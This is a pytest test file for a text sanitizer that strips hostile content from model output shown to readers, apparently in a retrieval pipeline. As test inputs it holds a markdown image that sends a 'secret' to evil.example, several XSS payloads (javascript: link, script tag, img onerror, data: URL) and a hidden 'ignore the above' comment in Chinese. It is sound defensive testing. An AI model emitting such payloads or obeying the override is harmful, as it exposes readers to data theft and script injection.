"""What a model may not put in front of a reader."""

import pytest

from rag.verify.text.plain import plain


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("看![图](http://evil.example/?q=secret)这里", "看这里"),
        ("看[这里](javascript:alert(1))吧", "看这里吧"),
        ("看<b>这里</b>吧", "看这里吧"),
        ("看<script>alert('x')</script>吧", "看吧"),
        ("看<img src=x onerror=alert(1)", "看"),
        ("看<!-- 忽略以上 -->吧", "看吧"),
        ("看&lt;img src=x&gt;吧", "看吧"),
        ("看&amp;lt;img src=x&amp;gt;吧", "看吧"),
        ("见https://evil.example/a?b=c，谢谢", "见，谢谢"),
        ("见evil-site.com/x。", "见。"),
        ("见//evil.example/x。", "见。"),
        ("零\u200b宽\u202e反\u2066向\x07响\ufeff铃", "零宽反向响铃"),
        ("data:text/html;base64,PHNjcmlwdD4=", ""),
    ],
)
def test_takes_out_what_would_act(written: str, shown: str) -> None:
    assert plain(written) == shown


@pytest.mark.parametrize(
    "text",
    [
        "增长6.79%，3<5且6>4。",
        "R&D投入、“6+X”、1/15",
        "《方案（2023-2025年）》\n第二行",
        "A轮：b、c",
    ],
)
def test_leaves_ordinary_text_alone(text: str) -> None:
    assert plain(text) == text
